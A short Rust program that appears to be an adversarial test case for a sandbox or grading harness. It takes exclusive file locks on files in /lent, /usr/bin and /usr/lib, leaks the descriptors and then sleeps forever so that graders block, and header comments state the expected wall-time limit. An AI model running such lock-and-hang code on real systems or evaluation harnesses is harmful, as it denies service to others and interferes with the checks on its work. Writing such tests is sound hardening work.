//! attack = "lock every file that the box was lent, and stay, so that graders that lock them wait"
//! kind = "poisoned cache"
//! gets = ["wall"]
//! held_by = ["wall limit"]
//! allow = { wall = 0.8 }

use foe::call;
use std::os::fd::{AsRawFd, IntoRawFd};

pub fn main() {
    for folder in ["/lent", "/usr/bin", "/usr/lib"] {
        for entry in std::fs::read_dir(folder).into_iter().flatten().flatten().take(100) {
            if let Ok(file) = std::fs::File::open(entry.path()) {
                let _ = call(73, &[i64::from(file.as_raw_fd()), 2 | 4]); // flock(LOCK_EX | LOCK_NB)
                let _ = file.into_raw_fd();
            }
        }
    }
    foe::sleep_forever();
}
